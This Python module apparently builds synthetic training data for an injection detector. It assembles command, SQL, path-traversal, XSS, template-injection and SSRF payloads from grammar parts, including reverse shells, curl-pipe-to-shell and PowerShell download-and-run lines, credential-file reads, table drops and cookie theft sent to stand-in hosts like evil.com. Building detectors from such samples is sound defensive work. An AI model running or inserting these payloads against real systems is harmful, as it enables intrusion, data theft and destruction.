"""Short attack payloads built from their grammar: separator, command, argument, terminator.

The shared corpora are long on scanner URLs and SQL dumps and short on the smallest
attacks a form field sees: `127.0.0.1 | id`, `1; drop table users`, `admin'--`. A model
trained on them misses such values in fields it has not seen them in. Listing them
would only teach the list; here each family is written as its parts (how a shell chains
a command, how a string literal is closed and a query continued, how a path climbs out
of its directory) and every payload is a random combination, so the model sees the
structure with many fillers. Used by `train --grammar-pairs`, placed in random contexts
beside benign twins (`random_contexts.context_pairs`).
"""

from __future__ import annotations

import random

# -- command injection: [value] separator command [argument] [terminator] --------
_CMD_LEADS = ("", "", "127.0.0.1", "8.8.8.8", "10.0.0.1", "localhost", "example.com", "1", "test", "a.txt", "foo")
_CMD_SEPS = (";", "; ", " ;", "|", " | ", "||", " || ", "&&", " && ", "&", " & ", "%0a", "%0d%0a")
_CMD_COMMANDS = (
    "id", "whoami", "uname -a", "uname", "hostname", "pwd", "ls", "ls -la", "ls -al /", "ls /tmp", "ps aux",
    "ps -ef", "env", "set", "netstat -an", "ifconfig", "ip a", "cat /etc/passwd", "cat /etc/shadow",
    "cat /etc/hosts", "cat /proc/version", "cat ~/.ssh/id_rsa", "head /etc/passwd", "more /etc/passwd",
    "tail -n 5 /var/log/auth.log", "sleep 5", "sleep 10", "ping -c 10 127.0.0.1", "ping -n 5 localhost",
    "nslookup {host}", "dig {host}", "curl http://{host}/x.sh | sh", "curl -s {host}/i | bash",
    "wget http://{host}/s -O /tmp/s", "wget -qO- {host}/p|sh", "nc -e /bin/sh {host} 4444", "nc {host} 9001",
    "bash -i >& /dev/tcp/{host}/4444 0>&1", "/bin/sh", "sh -c id", "bash -c 'id'", "echo {word}",
    "echo {word} > /tmp/{word}", "rm -rf /tmp/{word}", "chmod +x /tmp/{word}", "touch /tmp/{word}",
    "python -c 'import os;os.system(\"id\")'", "perl -e 'print 1'", "php -r 'system(\"id\");'",
    "type C:\\windows\\win.ini", "dir c:\\", "net user", "whoami /priv", "cmd /c whoami", "cmd.exe /c dir",
    "powershell -c Get-Process", "powershell IEX(New-Object Net.WebClient).DownloadString('http://{host}/a')",
    "systeminfo", "ipconfig /all", "find / -perm -4000", "crontab -l", "uname -r", "cat flag.txt",
)
_CMD_TAILS = ("", "", "", "#", " #", ";", "&", " &", "%00", "'", '"')
_HOSTS = ("evil.com", "attacker.net", "10.10.14.2", "192.168.1.66", "x.oast.fun", "burpcollaborator.net")

# -- SQL injection: [value] closer body [terminator] -------------------------------
_SQL_LEADS = ("", "", "1", "admin", "0", "-1", "999", "x", "test", "john")
_SQL_CLOSERS = ("'", "'", '"', "')", '")', "'))", ")", "", "", "`")
_SQL_BODIES = (
    " or 1=1", " or 1=1 ", " OR 1=1", " or '1'='1", ' or "1"="1', " or 'a'='a", " or true", "||1=1",
    " and 1=2", " and 1=1", " and '1'='1", " or 2>1", " or 1 like 1", " or 'x' like 'x", " or not 0",
    " union select null", " union select null,null", " union all select null,null,null",
    " union select 1,2,3", " union select username,password from users", " union select @@version,2",
    " union select table_name from information_schema.tables", " UNION SELECT user(),database()",
    "; drop table users", ";drop table {word}", "; delete from {word}", "; truncate table {word}",
    "; update users set role='admin'", "; insert into users values(1,'x','x')", "; select pg_sleep(5)",
    "; shutdown", "; exec xp_cmdshell 'dir'", "; waitfor delay '0:0:5'", " and sleep(5)", " or sleep(5)",
    # stacked queries after a number (`1; drop table users`) are what headerless trials missed most
    "; drop database {word}", ";DROP TABLE {word};", "; alter table {word} drop column {word}",
    "; delete from {word} where 1=1", "; select * from {word}", "; grant all on *.* to {word}",
    " and benchmark(5000000,md5(1))", " or pg_sleep(5)", " and 1=(select count(*) from users)",
    " order by 1", " order by 10", " group by 1 having 1=1", " and extractvalue(1,concat(0x7e,version()))",
    " and updatexml(1,concat(0x7e,user()),1)", " and substring(@@version,1,1)=5",
    " and ascii(substr((select database()),1,1))>64", " and (select 1 from dual)=1", " procedure analyse()",
    " into outfile '/tmp/{word}'", " and load_file('/etc/passwd')", "=1 or 1=1",
)
_SQL_TAILS = ("", "", "--", "-- ", "-- -", "#", "/*", ";--", ";", " --", "%00", "'--", "-- {word}")

# -- path traversal: climb + target ---------------------------------------------
_UPS = ("../", "..\\", "....//", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "..;/", ".../", "..%c0%af")
_TARGETS = (
    "etc/passwd", "etc/shadow", "etc/hosts", "etc/issue", "proc/self/environ", "proc/self/cmdline",
    "windows/win.ini", "windows/system32/drivers/etc/hosts", "boot.ini", "var/log/apache2/access.log",
    "var/www/html/.env", ".env", "config.php", "wp-config.php", "WEB-INF/web.xml", "app/config/database.yml",
    "root/.ssh/id_rsa", "home/{word}/.bash_history", ".git/config", "usr/local/etc/php.ini",
)
_PATH_LEADS = ("", "", "", "/", "file=", "./", "/var/www/", "images/", "static/", "C:\\", "file:///")
_PATH_TAILS = ("", "", "", "%00", "%00.png", "?", "#", ".jpg")

# -- XSS: [breakout] tag-or-handler(function(argument)) ---------------------------
_XSS_BREAKS = ("", "", "\">", "'>", "\"/>", "</textarea>", "</title>", "-->", "'", '"', "</script>")
_XSS_FUNCS = ("alert(1)", "alert(document.cookie)", "prompt(1)", "confirm(1)", "alert`1`", "print()",
              "fetch('//{host}?c='+document.cookie)", "eval(atob('YWxlcnQoMSk='))", "alert(String.fromCharCode(88))",
              "location='//{host}'", "document.write(1)", "top['al'+'ert'](1)")
_XSS_SHAPES = (
    "<script>{f}</script>", "<script src=//{host}/x.js></script>", "<img src=x onerror={f}>",
    "<img src=x onerror=\"{f}\">", "<svg onload={f}>", "<svg/onload={f}>", "<body onload={f}>",
    "<iframe src=javascript:{f}>", "<a href=javascript:{f}>x</a>", "<details open ontoggle={f}>",
    "<input autofocus onfocus={f}>", "<video src=x onerror={f}>", "javascript:{f}", "' onmouseover={f} '",
    "\" onfocus={f} autofocus \"", "<marquee onstart={f}>", "<math><mtext><img src=x onerror={f}>",
    "<ScRiPt>{f}</sCrIpT>", "<object data=javascript:{f}>", "data:text/html,<script>{f}</script>",
)

# -- template, expression and lookup injection ---------------------------------
_SSTI = (
    "{{7*7}}", "{{7*'7'}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}", "@(7*7)", "{{config}}",
    "{{config.items()}}", "{{self}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${{7*7}}",
    "{{request.application.__globals__}}", "{% import os %}{{os.system('id')}}", "{{ {word}|attr('x') }}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}", "${jndi:ldap://{host}/a}", "${jndi:rmi://{host}:1099/x}",
    "${jndi:dns://{host}}", "${${lower:j}ndi:ldap://{host}/x}", "#set($x=7*7)$x", "{{=7*7}}", "[[${7*7}]]",
    "%{(#_='multipart/form-data')}", "${@java.lang.Runtime@getRuntime().exec('id')}",
)
_SSRF = (
    "http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/", "http://127.0.0.1:22", "http://localhost:6379/",
    "http://127.0.0.1/admin", "http://0.0.0.0:8080/", "http://[::1]/", "http://2130706433/", "http://0x7f000001/",
    "file:///etc/passwd", "file://c:/windows/win.ini", "gopher://127.0.0.1:6379/_info", "dict://localhost:11211/stat",
    "http://localhost:2375/containers/json", "http://127.1/", "http://{host}@127.0.0.1/", "ldap://{host}/x",
)

FAMILIES = ("rce", "sqli", "path-traversal", "xss", "ssti", "ssrf")
_WEIGHTS = (3, 3, 1, 1, 1, 1)  # shells and SQL have the most shapes and the corpora's fewest short ones


def _fill(text: str, rng: random.Random) -> str:
    word = rng.choice(("x", "tmp", "test", "a1", "pwn", "users", "data", "backup", "log"))
    return text.replace("{host}", rng.choice(_HOSTS)).replace("{word}", word)


def command_injection(rng: random.Random) -> str:
    cmd = rng.choice(_CMD_COMMANDS)
    form = rng.random()
    if form < 0.15:
        chained = f"`{cmd}`"
    elif form < 0.3:
        chained = f"$({cmd})"
    else:
        chained = rng.choice(_CMD_SEPS) + cmd
    lead = rng.choice(_CMD_LEADS) if form >= 0.3 else rng.choice(("", "", "1", "x", "a.txt"))
    return _fill(lead + chained + rng.choice(_CMD_TAILS), rng)


def sql_injection(rng: random.Random) -> str:
    lead = rng.choice(_SQL_LEADS)
    # A number is injected into unquoted (`id=1; drop table users`): nothing to close, often nothing to cut off.
    numeric = lead.lstrip("-").isdigit() and rng.random() < 0.5
    closer = "" if numeric else rng.choice(_SQL_CLOSERS)
    body = rng.choice(_SQL_BODIES)
    if rng.random() < 0.1:  # `admin'--`: closing a quote and commenting out the rest is the whole attack
        body, closer = "", rng.choice(("'", '"', "')", "'))"))
    tail = rng.choice(_SQL_TAILS) if body else rng.choice(("--", "-- -", "#", "/*", ";--"))
    if numeric and body.startswith(";") and rng.random() < 0.5:
        tail = ""
    if rng.random() < 0.15:
        body = body.replace(" ", "/**/")
    if rng.random() < 0.15:
        body = body.upper().replace("{WORD}", "{word}")
    return _fill(lead + closer + body + tail, rng)


def path_traversal(rng: random.Random) -> str:
    up = rng.choice(_UPS)
    target = rng.choice(_TARGETS)
    if "\\" in up:
        target = target.replace("/", "\\")
    return _fill(rng.choice(_PATH_LEADS) + up * rng.randint(2, 8) + target + rng.choice(_PATH_TAILS), rng)


def xss(rng: random.Random) -> str:
    shape = rng.choice(_XSS_SHAPES).replace("{f}", rng.choice(_XSS_FUNCS))
    return _fill(rng.choice(_XSS_BREAKS) + shape, rng)


def template_injection(rng: random.Random) -> str:
    return _fill(rng.choice(_SSTI), rng)


def ssrf(rng: random.Random) -> str:
    return _fill(rng.choice(_SSRF), rng)


_BUILDERS = {"rce": command_injection, "sqli": sql_injection, "path-traversal": path_traversal, "xss": xss,
             "ssti": template_injection, "ssrf": ssrf}


def grammar_payloads(n: int, seed: int) -> list[tuple[str, str]]:
    """`n` (payload, category) pairs, families weighted by `_WEIGHTS`, seeded."""
    rng = random.Random(f"{seed}:payload-grammar")
    families = rng.choices(FAMILIES, _WEIGHTS, k=n)
    return [(_BUILDERS[family](rng), family) for family in families]
